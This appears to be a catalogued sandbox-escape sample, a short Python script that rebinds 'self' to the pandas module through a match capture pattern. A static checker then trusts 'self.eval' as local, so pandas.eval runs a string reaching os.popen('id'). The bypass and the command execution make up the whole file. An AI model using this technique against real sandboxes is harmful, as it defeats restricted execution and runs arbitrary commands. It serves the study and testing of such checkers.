# source: pyjail/RestrictedPython 'rebind the trusted name' bypasses; pandas eval/query injection gadget pd.io.common.os
# family: self rebound inside a method by a binding form the check does not track (match capture pattern 'case self:'); self.eval trusted as the script's own def eval
# goal: pandas.eval on a run-time string -> os.popen('id')
import pandas as pd
class Ctx:
    def __enter__(self):
        return pd
    def __exit__(self, a, b, c):
        return False
class Calc:
    def eval(self, e, **kw):
        return None
    def run(self, e):
        match pd:
            case self:
                return self.eval(e)
print(Calc().run("pd.io.common.os.popen('id').read()"))
